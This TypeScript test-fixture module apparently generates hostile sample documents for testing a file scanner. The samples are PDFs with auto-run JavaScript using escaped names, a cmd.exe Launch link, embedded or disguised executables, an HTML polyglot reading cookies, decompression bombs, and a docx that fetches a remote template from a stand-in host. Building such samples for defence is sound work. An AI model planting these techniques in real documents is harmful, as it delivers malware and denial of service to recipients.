import { crc32, deflateRawSync, deflateSync } from 'node:zlib';
import { PDFDocument, PDFName, PDFString } from '@cantoo/pdf-lib';
import { onePageObjects, pdfFromObjects } from '@inklined/test-kit/sample-pdf';
import { relationships, sampleDoc, sampleExe, wordCompoundFile, wordPackage } from './sample-files';

const RELS = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
const [catalog, pages, page, ...rest] = onePageObjects();

/** Replaces the catalog's closing `>>` with more entries. */
const withCatalog = (entries: string) => [catalog!.replace(/>>$/, `${entries} >>`), pages!, page!, ...rest];

/** JavaScript run on opening, with its names written as escapes (`/J#53` is `/JS`). */
export const pdfWithJavaScript = () =>
  pdfFromObjects(withCatalog('/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>'));

/** The same action, but inside a compressed object stream, where the raw bytes show nothing. */
export async function pdfWithHiddenJavaScript(): Promise<Buffer> {
  const document = await PDFDocument.create();
  document.addPage([595, 842]);
  const action = document.context.obj({ S: 'JavaScript', JS: PDFString.of('app.alert(1)') });
  document.catalog.set(PDFName.of('OpenAction'), document.context.register(action));
  return Buffer.from(await document.save({ useObjectStreams: true }));
}

/** A link annotation that starts a program. */
export const pdfWithLaunch = () =>
  pdfFromObjects([
    catalog!,
    pages!,
    page!.replace(/>>$/, '/Annots [6 0 R] >>'),
    ...rest,
    '<< /Type /Annot /Subtype /Link /Rect [0 0 595 842] /A << /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) >> >> >>',
  ]);

/** A file attached to the document, in the EmbeddedFiles name tree. */
export const pdfWithEmbeddedFile = () =>
  pdfFromObjects([
    ...withCatalog('/Names << /EmbeddedFiles << /Names [(invoice.exe) 6 0 R] >> >>'),
    '<< /Type /Filespec /F (invoice.exe) /EF << /F 7 0 R >> >>',
    `<< /Type /EmbeddedFile /Length ${sampleExe().length} >>\nstream\n${sampleExe().toString('latin1')}\nendstream`,
  ]);

/** A PDF that a browser renders as a page with a script (a comment line is HTML to a browser). */
export const pdfHtmlPolyglot = () =>
  pdfFromObjects(onePageObjects(), { header: '%PDF-1.4\n%<html><body><script>alert(document.cookie)</script>\n' });

/** "%PDF-" and then a Windows executable. */
export const pdfThenExecutable = () => Buffer.concat([Buffer.from('%PDF-1.7\n'), sampleExe(), Buffer.alloc(4096)]);

/** A valid PDF with a program appended after its end. */
export const pdfWithAppendedPayload = () => Buffer.concat([pdfFromObjects(onePageObjects()), sampleExe()]);

/** An object stream that inflates to `megabytes` MB (the parser inflates object streams on load). */
export function pdfBomb(megabytes = 200): Buffer {
  // Buffer.alloc maps zero pages lazily, so deflating it costs time, not memory.
  const bomb = deflateSync(Buffer.alloc(megabytes * 1024 * 1024), { level: 9 });
  return pdfFromObjects([
    ...onePageObjects(),
    `<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length ${bomb.length} >>\nstream\n${bomb.toString('latin1')}\nendstream`,
  ]);
}

/** A docx with an OLE object (a compound file) under word/embeddings. */
export const docxWithOleObject = () =>
  wordPackage(
    {
      contentTypesExtra:
        '<Default Extension="bin" ContentType="application/vnd.openxmlformats-officedocument.oleObject"/>',
      documentRels: `<Relationship Id="rId9" Type="${RELS}/oleObject" Target="embeddings/oleObject1.bin"/>`,
    },
    { 'word/embeddings/oleObject1.bin': sampleDoc() },
  );

/** A Windows program stored under an image's name. */
export const docxWithHiddenExecutable = () => wordPackage({}, { 'word/media/image1.png': sampleExe() });

/** A template fetched from a remote host when the document opens (a known malware technique). */
export const docxWithRemoteTemplate = () =>
  wordPackage(
    {},
    {
      'word/_rels/settings.xml.rels': relationships(
        `<Relationship Id="rId1" Type="${RELS}/attachedTemplate" Target="http://198.51.100.1/t.dotm" TargetMode="External"/>`,
      ),
    },
  );

/**
 * A docx whose document part inflates to `megabytes` MB. `honest`: the headers say so; otherwise
 * they claim 4 KB and the data says otherwise.
 */
export function docxBomb(megabytes = 200, honest = true): Buffer {
  const data = Buffer.alloc(megabytes * 1024 * 1024);
  const part = { deflated: deflateRawSync(data, { level: 9 }), size: data.length, crc: crc32(data) };
  return wordPackage({}, { 'word/document.xml': honest ? part : { ...part, declaredSize: 4096 } });
}

export const docWithMacros = () =>
  wordCompoundFile({ '/Macros/VBA/dir': Buffer.from('vba'), '/Macros/PROJECT': Buffer.from('ID="{0}"') });

export const docWithOleObject = () => wordCompoundFile({ '/ObjectPool/_1234567890/\u0001Ole10Native': sampleExe() });

export const encryptedDoc = () => wordCompoundFile({}, 0x0100);
